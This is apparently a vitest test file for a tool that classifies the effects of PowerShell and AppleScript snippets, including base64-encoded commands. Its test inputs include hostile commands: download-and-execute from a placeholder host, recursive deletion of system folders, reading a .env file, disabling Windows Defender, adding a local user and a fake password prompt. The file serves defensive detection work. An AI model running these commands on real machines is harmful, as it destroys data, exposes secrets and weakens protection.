import { describe, expect, it } from 'vitest';
import { decodedCommand } from './powershell.ts';
import { scriptEffects } from './script-effects.ts';

const place = { cwd: '/home/ada/work/shop', home: '/home/ada' };
const said = (language: string, text: string): readonly string[] =>
  scriptEffects(language, text, place).map(({ verb, resource, zone }) => `${verb} ${resource.kind} ${zone}`);
const encoded = (text: string): string => btoa([...text].map((letter) => `${letter}\0`).join(''));

describe('PowerShell', () => {
  it.each([
    ['Remove-Item -Recurse -Force C:\\Windows', 'delete directory system'],
    ['Get-Content .env', 'read file credential-store'],
    ['iwr https://x.example/a.ps1 | iex', 'receive host other-host', 'execute process this-host'],
    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'delete service system'],
    ['New-LocalUser eve', 'grant user system'],
    ['Get-ChildItem | Sort-Object Name'],
    ['Write-Host "Remove-Item C:/"'],
  ])('%s', (text, ...effects) => expect(said('powershell', text)).toEqual(effects));

  it('is read out of its encoded form, and the disguise is told', () => {
    const [effect] = scriptEffects('powershell', encoded('Remove-Item -Recurse C:\\Users'), place);
    expect(effect).toMatchObject({ verb: 'delete', zone: 'system' });
    expect(effect?.flags).toContain('hidden');
  });

  it('that is no base64 is left as it is', () => {
    expect(decodedCommand('Get-ChildItem -Path .')).toBeNull();
    expect(decodedCommand('!!!!')).toBeNull();
  });
});

describe('AppleScript', () => {
  it.each([
    ['display notification "built"'],
    ['display dialog "Continue?"'],
    ['display dialog "Password" default answer "" with hidden answer', 'read secret credential-store'],
    ['do shell script "id" with administrator privileges', 'impersonate user this-host'],
    ['return the clipboard', 'read environment this-host'],
  ])('%s', (text, ...effects) => expect(said('osascript', text)).toEqual(effects));
});
